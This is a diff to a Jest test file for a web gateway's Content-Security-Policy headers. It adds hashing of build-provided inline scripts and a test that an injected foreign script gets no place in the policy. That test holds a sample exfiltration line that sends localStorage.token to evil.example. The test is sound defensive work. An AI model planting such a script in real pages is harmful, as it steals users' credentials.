@@ -1,6 +1,7 @@
 import { jest } from "@jest/globals";
 import { createHash } from "node:crypto";
 import { brotliDecompressSync, gunzipSync } from "node:zlib";
+import { inlineScriptsPath } from "@wordlehint/contracts";
 import { eventually } from "@wordlehint/local/test-servers";
 import { useGateway } from "./support/use-gateway.ts";
 
@@ -9,10 +10,12 @@ jest.setTimeout(120_000);
 const script = `window.theme = "dark"; if (1 < 2 && "</b>") {}`;
 const about = `<!DOCTYPE html><html><head><script>${script}</script></head><body>${"About us. ".repeat(500)}</body></html>`;
 
-const { site, get, getAdmin } = useGateway({
-  PAGE_QUERY_PARAMETERS: "q",
-  PUBLIC_ORIGIN: "https://wordlehint.example",
-});
+const hashOf = (text: string) => `sha256-${createHash("sha256").update(text).digest("base64")}`;
+
+const { site, get, getAdmin } = useGateway(
+  { PAGE_QUERY_PARAMETERS: "q", PUBLIC_ORIGIN: "https://wordlehint.example" },
+  ({ show }) => show(inlineScriptsPath, { body: JSON.stringify({ hashes: [hashOf(script)] }) }),
+);
 
 beforeAll(() => site().show("/about", { body: about, headers: { "surrogate-key": "about settings" } }));
 
@@ -60,7 +63,6 @@ describe("a page", () => {
 
   it("has headers for caches, purges and security", async () => {
     const { headers } = await get("/about");
-    const hash = createHash("sha256").update(script).digest("base64");
     expect(headers).toMatchObject({
       "cache-control": "public, max-age=0, must-revalidate",
       "surrogate-key": "about settings",
@@ -71,10 +73,20 @@ describe("a page", () => {
     expect(headers["content-security-policy"]).toBe(
       "default-src 'self'; base-uri 'self'; connect-src 'self'; font-src 'self'; form-action 'self'; " +
         "frame-ancestors 'none'; frame-src 'none'; img-src 'self' data:; object-src 'none'; " +
-        `script-src 'self' 'sha256-${hash}'; script-src-attr 'none'; ` +
+        `script-src https://wordlehint.example/scripts/ '${hashOf(script)}'; script-src-attr 'none'; ` +
         "style-src 'self' 'unsafe-inline'; upgrade-insecure-requests",
     );
     expect(headers).not.toHaveProperty("x-powered-by");
+  });
+
+  it("may run no inline script but those of the build, whatever it contains", async () => {
+    const foreign = "fetch('https://evil.example?' + localStorage.token)";
+    const body = `${about}<script>${foreign}</script><script src="/files/wordlehint/production/a.js"></script>`;
+    site().show("/attacked", { body });
+    const policy = String((await get("/attacked")).headers["content-security-policy"]);
+    expect(policy).toContain(`'${hashOf(script)}'`);
+    expect(policy).not.toContain(hashOf(foreign));
+    expect(/script-src ([^;]*);/.exec(policy)?.[1]?.split(" ")).not.toContain("'self'");
   });
 
   it("is sent without its body for HEAD", async () => {
